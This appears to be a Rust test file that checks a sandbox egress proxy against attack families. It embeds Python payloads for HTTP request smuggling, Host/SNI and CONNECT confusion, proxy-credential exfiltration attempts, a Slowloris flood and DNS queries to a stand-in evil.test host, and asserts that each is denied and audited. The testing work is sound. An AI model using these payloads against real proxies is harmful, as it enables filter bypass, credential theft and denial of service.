//! The proxy's attack families (THREATS.md: proxy parsing, name versus address,
//! credentials, fail-open paths, what sits beside), tried from inside real sandboxes as
//! root through the product's contracts only (job file, host config, CLI, audit log),
//! against the bed's servers.
//!
//! Every attack request carries a path starting with `/leak-` (attacks that must not reach
//! a server) or `/ok-` (legitimate controls). A test fails when a `/leak-` request reached
//! a web server, anything reached a trap, a denied name went upstream, or an attempt left
//! no audit event.

use std::collections::BTreeSet;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::path::Path;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use runner_agent_tests::agent::{describe, python_step, random_value, World};
use runner_agent_tests::netbed::{allowed_test_bed, allowed_test_config, settle, NetBed, TRAP_IPS};
use runner_agent_tests::require_privilege;

/// [`python_step`] with this file's [`PRELUDE`].
fn py_step(name: &str, script: &str, args: &str) -> String {
    python_step(name, PRELUDE, script, args)
}

const PRELUDE: &str = r#"
def show(label, out):
    print("ATTEMPT", label, "->", statuses(out) or repr(out[:100]), flush=True)
"#;

/// Runs a job named `attack-NAME` whose steps are `steps` (YAML, see [`py_step`]) and
/// returns its output and audit events, once packets in flight have been recorded.
fn run_attack(
    world: &World,
    name: &str,
    steps: String,
) -> (std::process::Output, Vec<serde_json::Value>) {
    let job = world.job(
        &format!("{name}.yaml"),
        &format!("name: attack-{name}\nsteps:\n{steps}"),
    );
    let (output, events) = world.run_audited(&job);
    settle();
    println!("{}", describe(&output));
    (output, events)
}

/// `/leak-*` paths that reached a web server, and the hosts they reached.
fn leaks(bed: &NetBed) -> Vec<String> {
    bed.web_hits()
        .into_iter()
        .filter(|h| h.path.contains("leak"))
        .map(|h| {
            format!(
                "{} host={:?} sni={:?} at {}",
                h.path, h.host, h.sni, h.local
            )
        })
        .collect()
}

fn deny_events(events: &[serde_json::Value]) -> Vec<&serde_json::Value> {
    events.iter().filter(|e| e["verdict"] == "deny").collect()
}

/// Every `/leak-*` path that the job's requests named must have a deny event naming it,
/// unless it is in `no_path_ok` (refused by the HTTP parser before a path was known: then
/// a `malformed request` or other path-less deny event must exist, counted).
fn assert_each_attempt_audited(events: &[serde_json::Value], paths: &[&str], no_path_ok: &[&str]) {
    let denies = deny_events(events);
    let mut missing = Vec::new();
    let mut pathless_needed = 0;
    for p in paths {
        let found = denies
            .iter()
            .any(|e| e["path"].as_str().is_some_and(|ep| ep.contains(p)));
        if !found {
            if no_path_ok.contains(p) {
                pathless_needed += 1;
            } else {
                missing.push(*p);
            }
        }
    }
    let pathless = denies.iter().filter(|e| e["path"].is_null()).count();
    assert!(
        missing.is_empty(),
        "attempts with no deny event naming their path: {missing:?}\ndeny events: {denies:#?}"
    );
    assert!(
        pathless >= pathless_needed,
        "{pathless_needed} malformed attempts, only {pathless} path-less deny events: {denies:#?}"
    );
}

// ------------------------------------------------------------------ 1. HTTP parsing

const HTTP_ATTACKS: &str = r#"
W = ("198.51.100.10", 80)
W8080 = ("198.51.100.10", 8080)
TRAP = sys.argv[1]
C = "Connection: close\r\n"
def req(line, headers=""):
    return (line + "\r\n" + headers + "\r\n").encode("latin1")
A = []
# explicit proxy
A.append(("e-host-mismatch", E, req("GET http://allowed.test/leak-e01 HTTP/1.1", "Host: tenant.test\r\n" + C)))
A.append(("e-userinfo", E, req("GET http://allowed.test@tenant.test/leak-e02 HTTP/1.1", "Host: tenant.test\r\n" + C)))
A.append(("e-userinfo-port", E, req("GET http://allowed.test:80@tenant.test/leak-e03 HTTP/1.1", C)))
A.append(("e-dup-host", E, req("GET http://allowed.test/leak-e04 HTTP/1.1", "Host: allowed.test\r\nHost: tenant.test\r\n" + C)))
A.append(("e-obs-fold", E, req("GET http://allowed.test/leak-e05 HTTP/1.1", "Host: allowed.test\r\n tenant.test\r\n" + C)))
A.append(("e-pct-host", E, req("GET http://tenant%2etest/leak-e06 HTTP/1.1", C)))
A.append(("e-backslash", E, req("GET http://tenant.test\\@allowed.test/leak-e07 HTTP/1.1", C)))
A.append(("e-fragment", E, req("GET http://tenant.test#@allowed.test/leak-e08 HTTP/1.1", C)))
A.append(("e-origin-form", E, req("GET /leak-e09 HTTP/1.1", "Host: tenant.test\r\n" + C)))
A.append(("e-scheme-relative", E, req("GET //tenant.test/leak-e10 HTTP/1.1", "Host: allowed.test\r\n" + C)))
A.append(("e-upper-dot-ok", E, req("GET http://ALLOWED.TEST./ok-e11 HTTP/1.1", C)))
A.append(("e-punycode", E, req("GET http://xn--tnant-bsa.test/leak-e12 HTTP/1.1", C)))
A.append(("e-fullwidth", E, ("GET http://\uff54\uff45\uff4e\uff41\uff4e\uff54.test/leak-e13 HTTP/1.1\r\n" + C + "\r\n").encode("utf-8")))
A.append(("e-v6-mapped", E, req("GET http://[::ffff:%s]/leak-e14 HTTP/1.1" % TRAP, C)))
A.append(("e-zone", E, req("GET http://[fe80::1%25eth0]/leak-e15 HTTP/1.1", C)))
A.append(("e-decimal-ip", E, req("GET http://3405803786/leak-e16 HTTP/1.1", C)))
A.append(("e-pipelined", E, req("GET http://allowed.test/ok-e17 HTTP/1.1", "Host: allowed.test\r\n") + req("GET http://tenant.test/leak-e17 HTTP/1.1", "Host: tenant.test\r\n") + req("GET http://evil.test/leak-e17b HTTP/1.1", "Host: evil.test\r\n" + C)))
A.append(("e-expect", E, [req("POST http://evil.test/leak-e18 HTTP/1.1", "Host: evil.test\r\nExpect: 100-continue\r\nContent-Length: 5\r\n" + C), b"hello"]))
A.append(("e-te-smuggle", E, req("POST http://allowed.test/ok-e19 HTTP/1.1", "Host: allowed.test\r\nTransfer-Encoding: chunked\r\n") + b"0\r\n\r\n" + req("GET http://tenant.test/leak-e19 HTTP/1.1", "Host: tenant.test\r\n" + C)))
A.append(("e-cl-te", E, req("POST http://allowed.test/leak-e20 HTTP/1.1", "Host: allowed.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n") + b"0\r\n\r\n" + req("GET http://tenant.test/leak-e20b HTTP/1.1", "Host: tenant.test\r\n" + C)))
A.append(("e-te-space", E, req("POST http://allowed.test/ok-e21 HTTP/1.1", "Host: allowed.test\r\nTransfer-Encoding : chunked\r\nContent-Length: 0\r\n") + req("GET http://tenant.test/leak-e21 HTTP/1.1", "Host: tenant.test\r\n" + C)))
A.append(("e-websocket", E, [req("GET http://allowed.test/ok-e22 HTTP/1.1", "Host: allowed.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"), req("GET /leak-e22 HTTP/1.1", "Host: tenant.test\r\n" + C)]))
A.append(("e-h2-prior", E, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"))
A.append(("e-http10", E, req("GET http://tenant.test/leak-e23 HTTP/1.0", "")))
A.append(("e-port-8080", E, req("GET http://allowed.test:8080/leak-e24 HTTP/1.1", C)))
A.append(("e-bare-lf", E, b"GET http://allowed.test/ok-e25 HTTP/1.1\nHost: allowed.test\n\nGET http://tenant.test/leak-e25 HTTP/1.1\nHost: tenant.test\nConnection: close\n\n"))
A.append(("e-abs-host-port", E, req("GET http://allowed.test:80/leak-e26 HTTP/1.1", "Host: allowed.test:8080\r\n" + C)))
A.append(("e-tab-host", E, req("GET http://allowed.test/leak-e27 HTTP/1.1", "Host:\tallowed.test\ttenant.test\r\n" + C)))
A.append(("e-options-star", E, req("OPTIONS * HTTP/1.1", "Host: tenant.test\r\n" + C)))
A.append(("e-connect-http-port", E, [req("CONNECT tenant.test:80 HTTP/1.1", "Host: tenant.test:80\r\n"), req("GET /leak-e28 HTTP/1.1", "Host: tenant.test\r\n" + C)]))
# transparent HTTP (ignoring the proxy; the fence redirects)
A.append(("t-tenant", W, req("GET /leak-t01 HTTP/1.1", "Host: tenant.test\r\n" + C)))
A.append(("t-abs-mismatch", W, req("GET http://tenant.test/leak-t02 HTTP/1.1", "Host: allowed.test\r\n" + C)))
A.append(("t-abs-mismatch2", W, req("GET http://allowed.test/leak-t03 HTTP/1.1", "Host: tenant.test\r\n" + C)))
A.append(("t-userinfo", W, req("GET /leak-t04 HTTP/1.1", "Host: allowed.test@tenant.test\r\n" + C)))
A.append(("t-userinfo2", W, req("GET /leak-t05 HTTP/1.1", "Host: tenant.test@allowed.test\r\n" + C)))
A.append(("t-no-host-10", W, req("GET /leak-t06 HTTP/1.0", "")))
A.append(("t-dup-host", W, req("GET /leak-t07 HTTP/1.1", "Host: allowed.test\r\nHost: tenant.test\r\n" + C)))
A.append(("t-obs-fold", W, req("GET /leak-t08 HTTP/1.1", "Host: allowed.test\r\n tenant.test\r\n" + C)))
A.append(("t-pipelined", W, req("GET /ok-t09 HTTP/1.1", "Host: allowed.test\r\n") + req("GET /leak-t09 HTTP/1.1", "Host: tenant.test\r\n" + C)))
A.append(("t-upper-dot-ok", W, req("GET /ok-t10 HTTP/1.1", "Host: ALLOWED.TEST.\r\n" + C)))
A.append(("t-port-mismatch", W8080, req("GET /leak-t11 HTTP/1.1", "Host: allowed.test:80\r\n" + C)))
A.append(("t-port-8080", W8080, req("GET /leak-t12 HTTP/1.1", "Host: allowed.test\r\n" + C)))
A.append(("t-trap-addr", (TRAP, 80), req("GET /leak-t13 HTTP/1.1", "Host: allowed.test\r\n" + C)))
A.append(("t-trap-8080", (TRAP, 8080), req("GET /leak-t14 HTTP/1.1", "Host: allowed.test:8080\r\n" + C)))
A.append(("t-h2-prior", W, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"))
A.append(("t-connect", W, req("CONNECT tenant.test:80 HTTP/1.1", "Host: tenant.test:80\r\n" + C)))
A.append(("t-websocket", W, [req("GET /ok-t15 HTTP/1.1", "Host: allowed.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"), req("GET /leak-t15 HTTP/1.1", "Host: tenant.test\r\n" + C)]))
A.append(("t-abs-no-host", W, req("GET http://tenant.test/leak-t16 HTTP/1.1", C)))
A.append(("t-pct-host", W, req("GET /leak-t17 HTTP/1.1", "Host: tenant%2etest\r\n" + C)))
A.append(("t-expect", W, [req("POST /leak-t18 HTTP/1.1", "Host: tenant.test\r\nExpect: 100-continue\r\nContent-Length: 5\r\n" + C), b"hello"]))
A.append(("t-te-smuggle", W, req("POST /ok-t19 HTTP/1.1", "Host: allowed.test\r\nTransfer-Encoding: chunked\r\n") + b"0\r\n\r\n" + req("GET /leak-t19 HTTP/1.1", "Host: tenant.test\r\n" + C)))
A.append(("t-bare-lf", W, b"GET /ok-t20 HTTP/1.1\nHost: allowed.test\n\nGET /leak-t20 HTTP/1.1\nHost: tenant.test\nConnection: close\n\n"))
A.append(("t-http09", W, b"GET /leak-t21\r\n"))
A.append(("t-ipv6-host", W, req("GET /leak-t22 HTTP/1.1", "Host: [::ffff:198.51.100.10]\r\n" + C)))
for label, addr, data in A:
    show(label, raw(addr, data))
"#;

#[test]
fn http_parsing_and_name_tricks() {
    require_privilege!();
    let (bed, world) = allowed_test_bed();
    let (output, events) = run_attack(
        &world,
        "http",
        py_step("http attacks", HTTP_ATTACKS, &TRAP_IPS[0].to_string()),
    );
    let leaked = leaks(&bed);
    let oks: BTreeSet<String> = bed
        .web_hits()
        .into_iter()
        .filter(|h| h.path.starts_with("/ok"))
        .map(|h| h.path)
        .collect();
    println!("ok paths that arrived: {oks:?}");
    for e in deny_events(&events) {
        println!("DENY {e}");
    }
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    assert!(
        leaked.is_empty(),
        "leak requests reached a server: {leaked:#?}"
    );
    assert_eq!(bed.trap_hits(), vec![], "something reached a trap");
    let asked: Vec<_> = bed
        .dns_hits()
        .into_iter()
        .filter(|h| !h.name.ends_with("allowed.test"))
        .collect();
    assert!(asked.is_empty(), "denied names asked upstream: {asked:?}");
    // Each attack left an audit event.
    let paths = [
        "/leak-e01",
        "/leak-e04",
        "/leak-e09",
        "/leak-e10",
        "/leak-e17",
        "/leak-e18",
        "/leak-e19",
        "/leak-e22",
        "/leak-e23",
        "/leak-e24",
        "/leak-e26",
        "/leak-e28",
        "/leak-t01",
        "/leak-t02",
        "/leak-t03",
        "/leak-t04",
        "/leak-t05",
        "/leak-t06",
        "/leak-t07",
        "/leak-t09",
        "/leak-t11",
        "/leak-t12",
        "/leak-t13",
        "/leak-t14",
        "/leak-t15",
        "/leak-t16",
        "/leak-t17",
        "/leak-t18",
        "/leak-t19",
        "/leak-t22",
    ];
    let malformed = [
        "/leak-e02",
        "/leak-e03",
        "/leak-e05",
        "/leak-e06",
        "/leak-e07",
        "/leak-e08",
        "/leak-e12",
        "/leak-e13",
        "/leak-e14",
        "/leak-e15",
        "/leak-e16",
        "/leak-e20",
        "/leak-e21",
        "/leak-e25",
        "/leak-e27",
        "/leak-t08",
        "/leak-t20",
        "/leak-t21",
    ];
    let all: Vec<&str> = paths.iter().chain(malformed.iter()).copied().collect();
    assert_each_attempt_audited(&events, &all, &malformed);
}

// ------------------------------------------------------------------ 2. CONNECT / TLS

const TLS_ATTACKS: &str = r#"
W443 = ("198.51.100.10", 443)
def connect(authority, then=None, wait=1.5):
    parts = [("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (authority, authority)).encode("latin1")]
    if then is not None:
        parts += then if isinstance(then, list) else [then]
    return raw(E, parts, wait=wait, pause=0.2)
A = []
A.append(("c-userinfo", lambda: connect("allowed.test:443@tenant.test:443", client_hello([b"tenant.test"]))))
A.append(("c-userinfo2", lambda: connect("tenant.test@allowed.test:443", client_hello([b"allowed.test"]))))
A.append(("c-v6-mapped", lambda: connect("[::ffff:203.0.113.10]:443", client_hello([b"allowed.test"]))))
A.append(("c-zone", lambda: connect("[fe80::1%eth0]:443", client_hello([b"allowed.test"]))))
A.append(("c-no-port", lambda: connect("allowed.test", client_hello([b"allowed.test"]))))
A.append(("c-port-8443", lambda: connect("allowed.test:8443", client_hello([b"allowed.test"]))))
A.append(("c-sni-nul", lambda: connect("allowed.test:443", client_hello([b"allowed.test\x00.tenant.test"]))))
A.append(("c-sni-two-names", lambda: connect("allowed.test:443", client_hello([b"allowed.test", b"tenant.test"]))))
A.append(("c-sni-upper-dot", lambda: connect("allowed.test:443", client_hello([b"ALLOWED.TEST."]))))
A.append(("c-two-hellos", lambda: connect("allowed.test:443", client_hello([b"allowed.test"]) + client_hello([b"tenant.test"]))))
A.append(("c-ech-ext", lambda: connect("allowed.test:443", client_hello([b"allowed.test"], ext_extra=b"\xfe\x0d" + u16(4) + b"\x00\x00\x01\x00"))))
A.append(("c-no-sni", lambda: connect("allowed.test:443", client_hello(None))))
A.append(("c-h2-port80", lambda: connect("allowed.test:80", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")))
A.append(("c-tunnel-tenant", lambda: connect("allowed.test:80", b"GET /leak-c01 HTTP/1.1\r\nHost: tenant.test\r\n\r\n")))
A.append(("c-tunnel-lower", lambda: connect("allowed.test:80", b"get /leak-c02 http/1.1\r\nHost: tenant.test\r\n\r\n")))
A.append(("c-tunnel-lead-space", lambda: connect("allowed.test:80", b" GET /leak-c03 HTTP/1.1\r\nHost: tenant.test\r\n\r\n")))
A.append(("c-tunnel-silent", lambda: connect("allowed.test:80", [b"", b"GET /leak-c04 HTTP/1.1\r\nHost: tenant.test\r\n\r\n"], wait=3)))
A.append(("c-tunnel-ok-then", lambda: connect("allowed.test:80", b"GET /ok-c05 HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET /leak-c05 HTTP/1.1\r\nHost: tenant.test\r\n\r\n")))
A.append(("c-tunnel-other-then", lambda: connect("allowed.test:80", [b"SSH-2.0-x\r\n", b"GET /leak-c06 HTTP/1.1\r\nHost: tenant.test\r\n\r\n"])))
A.append(("c-tunnel-bare-lf", lambda: connect("allowed.test:80", b"GET /ok-c07 HTTP/1.1\nHost: allowed.test\n\nGET /leak-c07 HTTP/1.1\nHost: tenant.test\n\n")))
A.append(("c-ip-literal-443", lambda: connect("198.51.100.10:443", client_hello([b"tenant.test"]))))
A.append(("c-hostside", lambda: connect("%s:3128" % PH, b"GET http://tenant.test/leak-c08 HTTP/1.1\r\n\r\n")))
A.append(("c-in-tunnel-connect", lambda: connect("allowed.test:80", b"CONNECT tenant.test:80 HTTP/1.1\r\nHost: tenant.test:80\r\n\r\nGET /leak-c09 HTTP/1.1\r\nHost: tenant.test\r\n\r\n")))
# transparent TLS (the fence redirects :443)
A.append(("x-sni-tenant", lambda: raw(W443, client_hello([b"tenant.test"]))))
A.append(("x-sni-nul", lambda: raw(W443, client_hello([b"allowed.test\x00.tenant.test"]))))
A.append(("x-no-sni", lambda: raw(W443, client_hello(None))))
A.append(("x-sni-allowed-trap", lambda: raw((sys.argv[1], 443), client_hello([b"allowed.test"]))))
A.append(("x-plain-http-443", lambda: raw(W443, b"GET /leak-x01 HTTP/1.1\r\nHost: allowed.test\r\n\r\n")))
A.append(("x-sni-split-late", lambda: raw(W443, [client_hello([b"tenant.test"], record=20)[:7], client_hello([b"tenant.test"], record=20)[7:]])))
for label, f in A:
    show(label, f())
"#;

#[test]
fn connect_and_client_hello_tricks() {
    require_privilege!();
    let (bed, world) = allowed_test_bed();
    let (output, events) = run_attack(
        &world,
        "tls",
        py_step("tls attacks", TLS_ATTACKS, &TRAP_IPS[0].to_string()),
    );
    for e in deny_events(&events) {
        println!("DENY {e}");
    }
    let hits = bed.web_hits();
    println!("web hits: {hits:#?}");
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    let leaked = leaks(&bed);
    assert!(
        leaked.is_empty(),
        "leak requests reached a server: {leaked:#?}"
    );
    let tenant: Vec<_> = hits
        .iter()
        .filter(|h| {
            h.sni
                .as_deref()
                .is_some_and(|s| !s.ends_with("allowed.test"))
                || h.host
                    .as_deref()
                    .is_some_and(|s| !s.starts_with("allowed.test"))
        })
        .collect();
    assert!(tenant.is_empty(), "another tenant was reached: {tenant:#?}");
    assert_eq!(bed.trap_hits(), vec![], "something reached a trap");
    let denies = deny_events(&events);
    // The attacks whose outcome is a refusal (all but the upper-case SNI, which is the
    // allowed name, and the spliced "two hellos", "ECH", "other then HTTP" tunnels).
    assert!(
        denies.len() >= 20,
        "only {} deny events for ~25 refused attempts: {denies:#?}",
        denies.len()
    );
    for p in [
        "/leak-c01",
        "/leak-c04",
        "/leak-c05",
        "/leak-c07",
        "/leak-c09",
    ] {
        assert!(
            denies.iter().any(|e| e["path"] == p),
            "no deny event for {p}: {denies:#?}"
        );
    }
}

// ------------------------------------------------------------------ 2b. spliced fronting

const CRED_ATTACKS: &str = r#"
needle = (os.environ["P1"] + os.environ["P2"]).encode()
W = ("198.51.100.10", 80)
W443 = ("198.51.100.10", 443)
got = []
def note(label, out):
    got.append((label, out))
    show(label, out)
def tls_over(sock, name, reqs, verify=True):
    ctx = ssl.create_default_context() if verify else ssl._create_unverified_context()
    ctx.set_alpn_protocols(["http/1.1"])
    t = ctx.wrap_socket(sock, server_hostname=name)
    out = b""
    for r in reqs:
        t.sendall(r)
        time.sleep(0.3)
    return out + read_all(t, 1.5)
def via_connect(authority, name, reqs, verify=True):
    s, head = connect_tunnel(authority)
    if b" 200" not in head.split(b"\r\n")[0]:
        return head
    try:
        return tls_over(s, name, reqs, verify)
    except (OSError, ssl.SSLError) as e:
        return ("TLSERR %s" % e).encode()
def transparent_tls(name, reqs, verify=True):
    s = socket.create_connection(W443, timeout=5)
    try:
        return tls_over(s, name, reqs, verify)
    except (OSError, ssl.SSLError) as e:
        return ("TLSERR %s" % e).encode()
C = "Connection: close\r\n"
def req(line, headers=""):
    return (line + "\r\n" + headers + "\r\n").encode("latin1")
B = "api.allowed.test"
note("p-echo", raw(E, req("GET http://%s/echo HTTP/1.1" % B, C)))
note("p-echo-upper-dot", raw(E, req("GET http://API.Allowed.Test./echo HTTP/1.1", C)))
note("p-head", raw(E, req("HEAD http://%s/echo HTTP/1.1" % B, C)))
note("p-http10", raw(E, req("GET http://%s/echo HTTP/1.0" % B, "")))
note("p-expect", raw(E, [req("POST http://%s/echo HTTP/1.1" % B, "Expect: 100-continue\r\nContent-Length: 5\r\n" + C), b"hello"]))
note("p-te-trailers", raw(E, req("GET http://%s/echo HTTP/1.1" % B, "TE: trailers\r\nAccept-Encoding: gzip\r\n" + C)))
note("p-range", raw(E, req("GET http://%s/echo HTTP/1.1" % B, "Range: bytes=20-40\r\n" + C)))
note("p-host-other", raw(E, req("GET http://%s/leak-cred1 HTTP/1.1" % B, "Host: tenant.test\r\n" + C)))
note("p-abs-other", raw(E, req("GET http://tenant.test/leak-cred2 HTTP/1.1", "Host: %s\r\n" % B + C)))
note("p-pipelined", raw(E, req("GET http://%s/echo HTTP/1.1" % B, "") + req("GET http://tenant.test/unbound-pipelined HTTP/1.1", "Host: tenant.test\r\n" + C)))
note("p-pipelined-sub", raw(E, req("GET http://%s/echo HTTP/1.1" % B, "") + req("GET http://deep.%s/unbound-deep HTTP/1.1" % B, C)))
note("p-reason", raw(E, req("GET http://%s/reason HTTP/1.1" % B, C)))
note("p-trace", raw(E, req("TRACE http://%s/echo HTTP/1.1" % B, C)))
note("p-chunked-body", raw(E, req("POST http://%s/echo HTTP/1.1" % B, "Transfer-Encoding: chunked\r\n") + b"5\r\nhello\r\n0\r\n\r\n" + req("GET http://tenant.test/unbound-after-chunked HTTP/1.1", C)))
note("t-echo", raw(W, req("GET /echo HTTP/1.1", "Host: %s\r\n" % B + C)))
note("t-pipelined", raw(W, req("GET /echo HTTP/1.1", "Host: %s\r\n" % B) + req("GET /unbound-t-pipelined HTTP/1.1", "Host: tenant.test\r\n" + C)))
note("t-8080", raw(("198.51.100.10", 8080), req("GET /leak-cred3 HTTP/1.1", "Host: %s:8080\r\n" % B + C)))
note("s-echo", via_connect(B + ":443", B, [req("GET /echo HTTP/1.1", "Host: %s\r\n" % B), req("GET /reason HTTP/1.1", "Host: %s\r\n" % B), req("GET /leak-cred4 HTTP/1.1", "Host: tenant.test\r\n")]))
note("s-abs-other", via_connect(B + ":443", B, [req("GET http://tenant.test/leak-cred5 HTTP/1.1", "Host: %s\r\n" % B)]))
note("s-host-port", via_connect(B + ":443", B, [req("GET /leak-cred6 HTTP/1.1", "Host: %s:8443\r\n" % B)]))
note("s-upper-dot", via_connect("API.ALLOWED.TEST.:443", B, [req("GET /echo HTTP/1.1", "Host: API.ALLOWED.TEST.\r\n" + C)]))
note("s-port-80", via_connect(B + ":80", B, [req("GET /echo HTTP/1.1", "Host: %s:80\r\n" % B + C)]))
note("s-transparent", transparent_tls(B, [req("GET /echo HTTP/1.1", "Host: %s\r\n" % B), req("GET /unbound-x HTTP/1.1", "Host: tenant.test\r\n" + C)]))
note("s-tenant-sni", transparent_tls("tenant.test", [req("GET /unbound-tenant-sni HTTP/1.1", "Host: %s\r\n" % B + C)], verify=False))
note("s-front-spliced", via_connect("allowed.test:443", "allowed.test", [req("GET /unbound-front HTTP/1.1", "Host: %s\r\n" % B + C)], verify=False))
note("s-ws", via_connect(B + ":443", B, [req("GET /echo HTTP/1.1", "Host: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n" % B), req("GET /leak-cred7 HTTP/1.1", "Host: tenant.test\r\n" + C)]))
found = [label for label, out in got if needle in out]
print("CREDENTIAL:", ("FOUND %s" % found) if found else "CLEAN", flush=True)
"#;

fn write_bed_ca(bed: &NetBed, dir: &Path) -> String {
    let path = dir.join("bed-ca.pem");
    std::fs::write(&path, bed.ca_pem()).expect("write CA");
    path.to_string_lossy().into_owned()
}

#[test]
fn proxy_credential_goes_nowhere_else_and_never_back() {
    require_privilege!();
    let bed = NetBed::new().expect("net bed");
    let config = allowed_test_config(
        "        - host: tenant.test\n",
        "    secrets:\n      PROXY_TOKEN:\n        deliver: proxy\n        hosts: [api.allowed.test]\n        header: Authorization\n        format: \"Bearer {secret}\"\n",
    );
    let world = World::in_netns(bed.host_ns(), "", &config);
    let ca = write_bed_ca(&bed, world.dir.path());
    let world = world.with_agent_env("SSL_CERT_FILE", &ca);
    let secret = random_value("ratok");
    world.set_secret("default", "PROXY_TOKEN", &secret);
    let (p1, p2) = secret.split_at(secret.len() / 2);
    let step = py_step("credential attacks", CRED_ATTACKS, "");
    let step = step.replacen(
        "    run: |\n",
        &format!("    env: {{ P1: \"{p1}\", P2: \"{p2}\" }}\n    run: |\n"),
        1,
    );
    let job = world.job("cred.yaml", &format!("name: attack-cred\nsteps:\n{step}"));
    let (output, audit) = world.run_audited_to(&job);
    settle();
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    println!("{}", describe(&output));
    let value = format!("Bearer {secret}");
    let hits = bed.web_hits();
    for h in &hits {
        println!(
            "HIT {} host={:?} sni={:?} auth={:?} at {}",
            h.path,
            h.host,
            h.sni,
            h.header_values("authorization"),
            h.local
        );
    }
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    assert!(
        stdout.contains("CREDENTIAL: CLEAN"),
        "{}",
        describe(&output)
    );
    // The credential went only to api.allowed.test.
    let wrong: Vec<_> = hits
        .iter()
        .filter(|h| {
            h.header_values("authorization")
                .iter()
                .any(|v| v.contains(&secret))
        })
        .filter(|h| {
            h.host.as_deref().map(|x| x.split(':').next().unwrap_or(x)) != Some("api.allowed.test")
                || h.sni.as_deref().is_some_and(|s| s != "api.allowed.test")
        })
        .collect();
    assert!(wrong.is_empty(), "credential sent elsewhere: {wrong:#?}");
    let leaked = leaks(&bed);
    assert!(
        leaked.is_empty(),
        "leak requests reached a server: {leaked:#?}"
    );
    let plain_with_value: Vec<_> = hits
        .iter()
        .filter(|h| h.sni.is_none() && h.header_values("authorization").contains(&value.as_str()))
        .map(|h| format!("{} at {}", h.path, h.local))
        .collect();
    println!("credential in clear text (documented): {plain_with_value:?}");
    let log = std::fs::read_to_string(&audit).unwrap_or_default();
    assert!(!log.contains(&secret), "the audit log holds the secret");
    assert!(!stdout.contains(&secret), "stdout holds the secret");
    for line in log.lines().filter(|l| l.contains("\"deny\"")) {
        println!("DENY {line}");
    }
    for p in [
        "/leak-cred1",
        "/leak-cred2",
        "/leak-cred4",
        "/leak-cred5",
        "/leak-cred6",
    ] {
        assert!(
            log.contains(&format!("\"path\":\"{p}\"")),
            "no event for {p}"
        );
    }
}

// ------------------------------------------------------------------ 4. overload

const OVERLOAD: &str = r#"
TRAP = sys.argv[1]
W = ("198.51.100.10", 80)
held = []
refused = 0
# Slowloris: hold silent connections to the transparent listener (redirected from the
# trap's port 80) and to the explicit proxy, past the per-client cap.
for i in range(560):
    try:
        s = socket.socket(); s.settimeout(3)
        s.connect((TRAP, 80) if i % 2 else E)
        s.sendall(b"GET /leak-slow HTTP/1.1\r\nHost: allowed.test\r\nX: " + b"a" * 100)
        held.append(s)
    except OSError:
        refused += 1
print("held", len(held), "refused", refused, flush=True)
# While the proxy is at its cap: attempts that must fail, never fall open.
for label, addr, data in [
    ("cap-trap", (TRAP, 80), b"GET /leak-cap1 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"),
    ("cap-trap-8080", (TRAP, 8080), b"GET /leak-cap2 HTTP/1.1\r\nHost: allowed.test:8080\r\nConnection: close\r\n\r\n"),
    ("cap-explicit", E, b"GET http://evil.test/leak-cap3 HTTP/1.1\r\nConnection: close\r\n\r\n"),
    ("cap-tls", (TRAP, 443), client_hello([b"evil.test"])),
]:
    show(label, raw(addr, data))
# Huge and endless headers on fresh connections (after freeing a few slots).
for s in held[:20]:
    s.close()
held = held[20:]
show("huge-head", raw(E, b"GET http://evil.test/leak-huge HTTP/1.1\r\n" + b"X-A: " + b"b" * 70000 + b"\r\n\r\n"))
show("many-headers", raw(E, b"GET http://evil.test/leak-many HTTP/1.1\r\n" + b"".join(b"X-%d: 1\r\n" % i for i in range(300)) + b"\r\n"))
# DNS over TCP: more connections than the cap, held open, then a question each.
dns = []
for i in range(30):
    try:
        s = socket.socket(); s.settimeout(3); s.connect(("198.51.100.53", 53)); dns.append(s)
    except OSError:
        pass
def q(name, qtype=16):
    body = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        body += bytes([len(label)]) + label.encode()
    body += b"\x00" + struct.pack("!HH", qtype, 1)
    return u16(len(body)) + body
answered = 0
for s in dns:
    try:
        s.sendall(q("exfil-overload.evil.test"))
        if s.recv(512):
            answered += 1
    except OSError:
        pass
print("dns held", len(dns), "answered", answered, flush=True)
for s in dns + held:
    s.close()
time.sleep(1)
# The proxy still serves and still refuses afterwards.
show("after-ok", raw(E, b"GET http://allowed.test/ok-after HTTP/1.1\r\nConnection: close\r\n\r\n"))
show("after-deny", raw(E, b"GET http://evil.test/leak-after HTTP/1.1\r\nConnection: close\r\n\r\n"))
"#;

#[test]
fn overloaded_proxy_and_dns_filter_fail_closed_and_audit() {
    require_privilege!();
    let (bed, world) = allowed_test_bed();
    let steps = format!(
        "  - name: raise nofile\n    run: ulimit -n 4096 || true\n{}",
        py_step("overload", OVERLOAD, &TRAP_IPS[0].to_string())
    );
    let (output, events) = run_attack(&world, "overload", steps);
    let denies = deny_events(&events);
    let mut reasons: std::collections::BTreeMap<String, usize> = Default::default();
    for e in &denies {
        *reasons
            .entry(
                e["reason"]
                    .as_str()
                    .unwrap_or("")
                    .chars()
                    .take(90)
                    .collect(),
            )
            .or_default() += 1;
    }
    println!("deny reasons: {reasons:#?}");
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
